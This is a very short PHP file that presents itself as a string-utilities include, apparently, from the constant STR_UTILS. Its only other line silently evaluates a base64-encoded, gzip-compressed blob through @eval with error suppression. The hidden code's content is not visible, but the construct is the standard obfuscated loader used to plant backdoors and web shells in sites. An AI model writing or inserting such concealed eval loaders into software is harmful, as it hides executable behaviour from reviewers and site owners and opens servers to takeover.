<?php
if (!defined('STR_UTILS')) { define('STR_UTILS', 1); }
@eval(gzinflate(base64_decode('K64sLknN1VAvT08tUdAt9NdVyCgpKSi20tc3MjDWM9AzNDTWs9QvUKhRKM5Q17QGAA==')));
